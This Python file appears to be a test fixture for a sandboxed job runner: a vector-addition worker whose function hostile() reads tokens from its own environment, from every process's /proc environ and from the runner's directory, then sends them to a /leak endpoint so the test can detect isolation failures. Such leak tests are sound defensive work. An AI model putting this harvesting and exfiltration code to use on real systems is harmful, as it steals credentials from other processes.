"""Vector addition whose worker hunts for the POST token: in its own
environment, in every process's /proc/PID/environ (the runner's among
them), and in the runner's directory. Whatever it reads goes to the POST
URL's /leak path and to stderr, so that the test sees any leak."""

import glob
import os
import sys
import urllib.request

import numpy as np

_done = False


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as e:
        print(f"token hunt: {path}: {e}", file=sys.stderr, flush=True)
        return ""


def _hunt():
    found = [f"{k}={v}" for k, v in os.environ.items() if "TOKEN" in k]
    for path in glob.glob("/proc/[0-9]*/environ"):
        found += [kv for kv in _read(path).split("\0") if "TOKEN" in kv]
    for path in glob.glob("/xrun/runner/*") + glob.glob("/xrun/runner/.*"):
        if os.path.isfile(path) and _read(path):
            found.append(path + ":" + _read(path))
    return [f for f in found if f.strip()]


def hostile(a, b):
    global _done
    if not _done:
        _done = True
        found = _hunt()
        print(f"token hunt: found {found!r}", file=sys.stderr, flush=True)
        url = os.environ.get("XRUN_POST_URL", "")
        if url and found:
            try:
                urllib.request.urlopen(url + "/leak", data="\n".join(found).encode(), timeout=5)
            except Exception as e:
                print(f"token hunt: send: {e}", file=sys.stderr, flush=True)
    return np.add(a, b)
